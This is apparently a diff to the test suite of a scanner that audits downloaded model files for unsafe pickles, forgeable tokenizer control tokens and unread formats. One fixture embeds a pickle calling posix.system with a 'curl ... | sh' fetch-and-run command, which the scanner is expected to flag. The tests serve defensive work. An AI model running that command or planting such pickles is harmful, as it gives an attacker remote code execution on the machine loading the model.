@@ -34,10 +34,7 @@ def test_a_pickle_that_calls_the_system_is_a_fail_with_its_call(tmp_path: Path, 
     model = hub_model(tmp_path / "m", **{"training_args.bin": calls("posix", "system", "curl -s 198.51.100.7/x | sh")})
     dossier = audit(model)
     (found,) = of(dossier, "pickle.reaches-outside", Kind.FAIL)
-    assert (
-        found.message
-        == "training_args.bin @ 2: loading calls posix.system: posix.system('curl -s 198.51.100.7/x | sh')"
-    )
+    assert found.message == "training_args.bin @ 2: loading calls posix.system('curl -s 198.51.100.7/x | sh')"
     assert found.evidence[0].excerpt is not None and bytes.fromhex(found.evidence[0].excerpt).startswith(
         b"cposix\nsystem\n"
     )
@@ -51,8 +48,9 @@ def test_a_pickle_that_calls_the_system_is_a_fail_with_its_call(tmp_path: Path, 
         ("torch.hub", "load", "pickle.reaches-outside", Kind.FAIL),
         ("numpy", "load", "pickle.reaches-outside", Kind.FAIL),
         ("some_unknown_package", "Thing", "pickle.reaches-outside", Kind.FAIL),
-        ("torch.nn.modules.linear", "Linear", "pickle.library-class", Kind.REVIEW),
-        ("transformers.training_args", "TrainingArguments", "pickle.library-class", Kind.REVIEW),
+        ("torch.nn.modules.linear", "Linear", "pickle.unfollowed", Kind.OPEN),
+        ("transformers.trainer_utils", "IntervalStrategy", "pickle.library-class", Kind.REVIEW),
+        ("torch.package.package_importer", "PackageImporter", "pickle.reaches-outside", Kind.FAIL),
         ("torch.nn", "Linear.forward.__globals__", "pickle.reaches-outside", Kind.FAIL),
     ],
 )
@@ -60,7 +58,7 @@ def test_imports_are_judged_by_exact_lists(
     tmp_path: Path, audit: Audit, module: str, name: str, check: str, kind: Kind
 ) -> None:
     model = hub_model(tmp_path / "m", **{"x.pkl": calls(module, name, "x")})
-    assert [f.kind for f in of(audit(model), check)] == [kind]
+    assert [f.kind for f in of(audit(model), check) if f.kind is not Kind.INFORMATIONAL] == [kind]
 
 
 def test_plain_weights_in_a_checkpoint_pass(tmp_path: Path, audit: Audit) -> None:
@@ -139,7 +137,8 @@ def test_forgeable_tokens_are_counted_and_the_setting_is_named(tmp_path: Path, a
     (found,) = of(audit(hub_model(tmp_path / "m")), "token.forgeable", Kind.REVIEW)
     assert found.message == "tokenizer.json: plain text can produce 3 of 3 control tokens, such as '<|endoftext|>'"
     assert "split_special_tokens=True" in found.remedy
-    assert [e.name for e in found.evidence] == ["<|endoftext|>", "<|im_start|>", "<|im_end|>"]
+    assert [e.name for e in found.evidence] == ["<|endoftext|>", "<|im_start|>", "<|im_end|>", "fields"]
+    assert found.evidence[-1].seen == "plain text reaches the prompt through: content, system, role, tool result"
 
 
 def test_a_tokenizer_without_control_tokens_passes(tmp_path: Path, audit: Audit) -> None:
@@ -161,14 +160,16 @@ def test_a_file_without_a_reader_is_open_and_an_image_is_inert(tmp_path: Path, a
     assert [a.path for a in dossier.artifacts if a.standing == "inert"] == ["logo.png"]
     assert messages(dossier, "artifact.unread", Kind.OPEN) == [
         "fake.png: no reader knows this format (it begins with 4d 5a 90)",
-        "notes.7z: no reader knows this format (it begins with 37 7a bc af 27 1c)",
-        "script.txt: no reader knows this format (it begins with 23 21 2f 62 69 6e 2f 73)",
+        "notes.7z: not analysed: 7z archive; assay unpacks zip, tar, gzip, bzip2 and xz (it begins with 37 7a bc af 27 1c)",
+    ]
+    assert [f.message.partition(":")[0] for f in of(dossier, "code.native", Kind.REVIEW)] == [
+        "script.txt is a script, by its first line"
     ]
     assert dossier.decision.verdict is Verdict.INCOMPLETE
 
 
 def test_standings_cover_every_byte(tmp_path: Path, audit: Audit) -> None:
-    dossier = audit(hub_model(tmp_path / "m", **{"x.bin": b"?", "a.txt": b"text"}))
+    dossier = audit(hub_model(tmp_path / "m", **{"x.bin": b"?", "a.png": b"\x89PNG\r\n\x1a\n"}))
     parts = [dossier.portrait.measured(f"bytes.{name}") or 0 for name in ("examined", "inert", "unexamined")]
     assert sum(parts) == dossier.portrait.measured("bytes") and all(parts)
 
